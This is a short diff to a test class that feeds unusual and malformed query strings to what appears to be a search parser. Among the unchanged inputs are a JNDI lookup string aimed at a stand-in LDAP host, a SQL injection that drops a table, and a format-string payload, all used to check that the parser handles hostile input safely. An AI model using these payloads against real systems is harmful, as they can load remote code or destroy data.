@@ -75,12 +75,12 @@ class OddMessagesTest {
                 "title:* OR (",
                 "*:*",
                 "question:[* TO *]",
-                "\"unclosed",
+                "\"quotation without end",
                 "a AND NOT",
                 "~~~^^^",
                 "/.*/",
                 "${jndi:ldap://x.example/a}",
-                "{{phone}}",
+                "{{url}}",
                 "%s%n%d",
                 "'; DROP TABLE entries; --"
             })
